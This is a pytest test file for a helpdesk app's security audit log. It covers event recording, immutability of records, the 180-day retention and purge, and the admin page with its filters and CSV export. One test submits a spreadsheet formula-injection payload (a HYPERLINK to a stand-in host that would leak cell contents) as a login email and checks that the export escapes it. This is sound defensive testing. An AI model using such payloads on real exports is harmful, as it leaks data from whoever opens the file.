"""The security audit log (issue 17 §6): what is recorded, that it cannot be changed, the admin page with its
filters and CSV export, and a retention that never deletes records younger than 180 days."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from flask_migrate import upgrade
from sqlalchemy import select, text
from sqlalchemy.exc import DBAPIError

from helpdesk import ConfigError, create_app
from helpdesk.audit.models import AdminAuditLog, ImmutableSecurityEventError, SecurityEvent
from helpdesk.audit.services import purge_security_events, record_security_event
from helpdesk.auth.services import issue_token
from helpdesk.db import utcnow
from helpdesk.extensions import db as _db
from tests import factories as f
from tests.test_migrations import empty_database_url, keep_logging, migration_app  # noqa: F401 - fixtures

PASSWORD = "correct horse"
EN = {"Accept-Language": "en", "User-Agent": "Mozilla/5.0 (test browser)"}

pytestmark = pytest.mark.filterwarnings("ignore:'get_engine' is deprecated:DeprecationWarning")


def events(db, **where) -> list[SecurityEvent]:
    db.session.expire_all()
    query = select(SecurityEvent).filter_by(**where).order_by(SecurityEvent.id)
    return list(db.session.scalars(query))


@pytest.fixture()
def admin(make_user):
    return make_user(role="admin", email="audit.admin@example.cn", name="审计员", locale="en")


def log_in(app, email, password=PASSWORD, address="198.51.100.7"):
    client = app.test_client()
    response = client.post(
        "/login", data={"email": email, "password": password}, headers=EN, environ_base={"REMOTE_ADDR": address}
    )
    return client, response


def bearer(user) -> dict:
    return {"Authorization": f"Bearer {issue_token(user)[0]}"}


def test_logins_failures_and_logouts_are_recorded_with_address_and_browser(app, db, admin):
    _client, failed = log_in(app, admin.email, "not the password")
    assert failed.status_code == 200
    _client, failed_unknown = log_in(app, "nobody@example.cn", "not the password")
    client, ok = log_in(app, admin.email)
    assert ok.status_code == 302
    client.post("/logout", headers=EN, environ_base={"REMOTE_ADDR": "198.51.100.7"})
    recorded = [e for e in events(db) if e.kind != "user_created"]
    kinds = [(e.kind, e.email) for e in recorded]
    assert kinds == [
        ("login_failed", admin.email),
        ("login_failed", "nobody@example.cn"),
        ("login", admin.email),
        ("logout", admin.email),
    ]
    assert all(e.ip == "198.51.100.7" and e.user_agent == "Mozilla/5.0 (test browser)" for e in recorded)
    assert recorded[1].user_id is None and recorded[0].user_id == admin.id


def test_tokens_issued_and_revoked_are_recorded(client, db, admin):
    token = client.post("/api/v1/auth/token", json={"email": admin.email, "password": PASSWORD}).get_json()["token"]
    client.delete("/api/v1/auth/token", headers={"Authorization": f"Bearer {token}"})
    assert [e.kind for e in events(db, user_id=admin.id)] == ["user_created", "token_issued", "token_revoked"]


def test_a_user_created_through_the_api_is_in_both_logs(client, db, admin):
    body = {"email": "via.api@example.cn", "name": "接口用户", "password": "api made secret", "role": "admin"}
    created = client.post("/api/v1/users", json=body, headers=bearer(admin)).get_json()
    (event,) = events(db, kind="user_created", user_id=created["id"])
    assert event.actor_id == admin.id and event.detail["role"] == "admin"
    entry = db.session.scalar(select(AdminAuditLog).where(AdminAuditLog.entity_id == created["id"]))
    assert entry.action == "create" and entry.actor_id == admin.id


def test_a_user_created_on_the_command_line_is_recorded(app, db):
    result = app.test_cli_runner().invoke(
        args=[
            "users",
            "create",
            "--email",
            "cli@example.cn",
            "--name",
            "命令行",
            "--role",
            "admin",
            "--password",
            "from the shell",
        ]
    )
    assert result.exit_code == 0, result.output
    (event,) = events(db, kind="user_created", email="cli@example.cn")
    assert event.actor_id is None


def test_role_and_scope_changes_password_resets_and_deactivation_are_recorded(client, db, admin):
    cadre = f.cadre("411602", "nr")
    headers = bearer(admin)
    client.patch(
        f"/api/v1/users/{cadre.id}", json={"department_id": f.department("411602", "hrss").id}, headers=headers
    )
    client.patch(f"/api/v1/users/{cadre.id}", json={"password": "reset by admin 1"}, headers=headers)
    client.patch(f"/api/v1/users/{cadre.id}", json={"active": False}, headers=headers)
    client.patch(f"/api/v1/users/{cadre.id}", json={"active": True}, headers=headers)
    recorded = [e for e in events(db, user_id=cadre.id) if e.kind != "user_created"]
    assert [e.kind for e in recorded] == ["access_changed", "password_reset", "deactivated", "reactivated"]
    assert all(e.actor_id == admin.id for e in recorded)
    moved = recorded[0].detail["changes"]["department_id"]
    assert moved == [f.department("411602", "nr").id, f.department("411602", "hrss").id]


def test_report_exports_are_recorded_with_who_and_which_scope(app, client, db, admin):
    supervisor = f.supervisor("411602")
    county = f.jurisdiction("411602")
    response = client.get(
        "/api/v1/reports/resolution",
        query_string={"format": "csv", "group_by": "department", "jurisdiction_id": county.id},
        headers=bearer(supervisor),
    )
    assert response.status_code == 200
    supervisor.password_hash = admin.password_hash
    db.session.flush()
    page, _ = log_in(app, supervisor.email)
    assert page.get(f"/dashboard/export.xlsx?group_by=category&jurisdiction_id={county.id}").status_code == 200
    api_event, page_event = events(db, kind="report_exported")
    assert api_event.user_id == page_event.user_id == supervisor.id
    assert api_event.detail["format"] == "csv" and api_event.detail["jurisdiction_id"] == county.id
    assert api_event.detail["group_by"] == "department" and api_event.detail["via"] == "api"
    assert page_event.detail["format"] == "xlsx" and page_event.detail["group_by"] == "category"
    assert page_event.detail["jurisdiction_id"] == county.id and page_event.detail["via"] == "page"


def test_the_orm_refuses_to_change_or_delete_a_security_record(db, admin):
    event = record_security_event("login", user=admin)
    db.session.commit()  # the test's savepoint: still rolled back at the end
    event.ip = "10.0.0.1"
    with pytest.raises(ImmutableSecurityEventError):
        db.session.flush()
    db.session.rollback()
    event = db.session.scalars(select(SecurityEvent).where(SecurityEvent.kind == "login")).one()
    db.session.delete(event)
    with pytest.raises(ImmutableSecurityEventError):
        db.session.flush()
    db.session.rollback()


@pytest.mark.postgres_only
def test_postgresql_refuses_changes_and_young_deletes_but_lets_old_records_go(migration_app):  # noqa: F811 - the fixture
    upgrade()
    now = datetime.now(UTC)
    with _db.engine.begin() as conn:
        young, old = (
            conn.execute(
                text(
                    "INSERT INTO security_events (at, kind, email) VALUES (:at, 'login', 'x@example.cn') RETURNING id"
                ),
                {"at": at},
            ).scalar_one()
            for at in (now - timedelta(days=179), now - timedelta(days=181))
        )
    for statement in (
        "UPDATE security_events SET ip = '1.2.3.4' WHERE id = :id",
        "DELETE FROM security_events WHERE id = :id",
    ):
        with pytest.raises(DBAPIError, match="append-only"), _db.engine.begin() as conn:
            conn.execute(text(statement), {"id": young})
    with pytest.raises(DBAPIError, match="append-only"), _db.engine.begin() as conn:
        conn.execute(text("UPDATE security_events SET ip = '1.2.3.4' WHERE id = :id"), {"id": old})
    with _db.engine.begin() as conn:
        conn.execute(text("DELETE FROM security_events WHERE id = :id"), {"id": old})
        assert conn.execute(text("SELECT id FROM security_events")).scalars().all() == [young]


def test_purge_deletes_only_records_older_than_the_retention(app, db, admin):
    now = utcnow()
    for days in (10, 179, 181, 400):
        record_security_event("login", user=admin, now=now - timedelta(days=days))
    db.session.flush()
    app.config["SECURITY_LOG_RETENTION_DAYS"] = 365
    try:
        assert purge_security_events(now) == 1
    finally:
        app.config["SECURITY_LOG_RETENTION_DAYS"] = 180
    assert purge_security_events(now) == 1
    ages = sorted((now - e.at).days for e in events(db, kind="login"))
    assert ages == [10, 179]


def test_purge_never_goes_below_180_days_even_if_the_setting_does(app, db, admin):
    now = utcnow()
    record_security_event("login", user=admin, now=now - timedelta(days=100))
    db.session.flush()
    app.config["SECURITY_LOG_RETENTION_DAYS"] = 30  # changed after start-up, past the check
    try:
        assert purge_security_events(now) == 0
    finally:
        app.config["SECURITY_LOG_RETENTION_DAYS"] = 180


def test_a_retention_under_180_days_is_refused_at_start_up():
    with pytest.raises(ConfigError, match="180"):
        create_app("testing", SECURITY_LOG_RETENTION_DAYS=90)


def test_the_purge_command_reports_what_it_deleted(app, db, admin):
    record_security_event("login", user=admin, now=utcnow() - timedelta(days=200))
    db.session.flush()
    result = app.test_cli_runner().invoke(args=["security", "purge"])
    assert result.exit_code == 0 and "Deleted 1 security records" in result.output


# ------------------------------------------------------------------ the admin page


def test_admins_filter_the_log_by_kind_email_and_day(app, db, admin):
    log_in(app, "someone@example.cn", "wrong password")
    client, _ = log_in(app, admin.email)
    page = client.get("/admin/security-log", headers=EN).get_data(as_text=True)
    assert 'data-kind="login_failed"' in page and 'data-kind="login"' in page
    only_failures = client.get("/admin/security-log?kind=login_failed", headers=EN).get_data(as_text=True)
    assert 'data-kind="login_failed"' in only_failures and 'data-kind="login"' not in only_failures
    by_email = client.get("/admin/security-log?email=someone", headers=EN).get_data(as_text=True)
    assert "someone@example.cn" in by_email and 'data-kind="login"' not in by_email
    tomorrow = (utcnow() + timedelta(days=2)).date().isoformat()
    assert "No records match" in client.get(f"/admin/security-log?from={tomorrow}", headers=EN).get_data(as_text=True)
    bad = client.get("/admin/security-log?from=yesterday", headers=EN)
    assert bad.status_code == 200 and "Not a valid date" in bad.get_data(as_text=True)


def test_the_csv_export_is_filtered_and_carries_no_formulas(app, db, admin):
    log_in(app, '=HYPERLINK("http://x/?"&A1,"x")@example.cn', "wrong password")
    client, _ = log_in(app, admin.email)
    response = client.get("/admin/security-log.csv?kind=login_failed", headers=EN)
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0][:3] == ["id", "at", "kind"]
    assert [r[2] for r in rows[1:]] == ["login_failed"]
    assert rows[1][4].startswith("'=")


def test_only_admins_see_the_security_log(app, db, make_user):
    cadre = make_user(role="cadre", email="no.admin@example.cn", department_id=f.department("411602", "nr").id)
    client, _ = log_in(app, cadre.email)
    assert client.get("/admin/security-log").status_code == 403
    assert client.get("/admin/security-log.csv").status_code == 403
